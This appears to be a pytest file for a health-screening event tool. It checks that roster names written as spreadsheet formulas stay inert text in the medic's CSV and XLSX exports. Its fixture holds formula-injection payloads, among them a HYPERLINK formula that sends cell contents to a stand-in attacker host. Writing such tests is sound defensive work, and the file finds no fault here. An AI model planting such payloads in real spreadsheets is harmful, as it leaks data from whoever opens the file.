"""A roster name written as a formula reaches the medic's export: it must stay text in CSV and XLSX."""

from __future__ import annotations

import csv

import pytest

from carekit.domain.enums import ConsentKind, Role
from carekit.services import consent, health_export, health_key, operators, screening
from carekit.services.events import SiteInput, create_event, current_event
from carekit.services.people import PersonInput, register_people
from carekit.store.db import Database

HEALTH = "mango lantern 19"
NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1,2)", "-2+3", "@cmd", "\tTAB", "\rCR", "王小明"]


@pytest.fixture
def medic_export(tmp_path):
    db = Database(tmp_path / "event.carekit")
    lead = create_event(db, name="骑手关爱日", operator_name="Lin", sites=[SiteInput("深圳")], pin="246810",
                        health_passphrase=HEALTH)
    operators.add_operator(lead, "Dr Chen", [Role.MEDIC], pin="135790")
    with lead.writing() as journal:
        people = register_people(journal, current_event(journal.session), [PersonInput(n) for n in NAMES],
                                 source="roster.xlsx")
    medic = operators.sign_in(db, "Dr Chen", "135790")
    health_key.unlock_health(medic, HEALTH)
    for person in people:
        consent.record_consent(medic, person.person_id, ConsentKind.HEALTH, "2026-v1", "zh_CN")
        screening.record_screening(medic, person.person_id, "body", {"height_cm": "170", "weight_kg": "65"})
    yield medic, tmp_path
    db.close()


def test_a_formula_as_a_roster_name_stays_text_in_the_medics_csv(medic_export):
    medic, folder = medic_export
    health_export.export_health(medic, folder / "screening.csv")
    with (folder / "screening.csv").open(encoding="utf-8-sig", newline="") as handle:
        names = [row["name"] for row in csv.DictReader(handle)]
    assert_defused(names)


def test_a_formula_as_a_roster_name_stays_text_in_the_medics_xlsx(medic_export):
    from openpyxl import load_workbook
    medic, folder = medic_export
    health_export.export_health(medic, folder / "screening.xlsx")
    sheet = load_workbook(folder / "screening.xlsx").active
    header = [c.value for c in sheet[1]]
    cells = [row[header.index("name")] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells)  # a string cell, never a formula ("f")
    assert_defused([c.value for c in cells])


def assert_defused(names: list[str]) -> None:
    assert "'" + NAMES[0] in names and "'+SUM(1,2)" in names and "'@cmd" in names and "王小明" in names
    assert not any(n[0] in "=+-@\t\r" for n in names)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_every_trigger_character_is_defused_by_the_one_spreadsheet_writer(tmp_path, kind):
    from carekit.store.spreadsheet import write_table
    cells = ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", " =1", "＝1", "plain", 42]
    write_table(tmp_path / f"t.{kind}", ["cell"], [[c] for c in cells])
    if kind == "csv":
        with (tmp_path / "t.csv").open(encoding="utf-8-sig", newline="") as handle:
            read = [row[0] for row in csv.reader(handle)][1:]
        assert read[-1] == "42"
        read = read[:-1]
    else:
        from openpyxl import load_workbook
        sheet = load_workbook(tmp_path / "t.xlsx").active
        column = [row[0] for row in sheet.iter_rows(min_row=2)]
        assert column[-1].value == 42 and all(c.data_type == "s" for c in column[:-1])
        read = [c.value for c in column[:-1]]
    assert read[-1] == "plain" and all(v.startswith("'") for v in read[:-1])
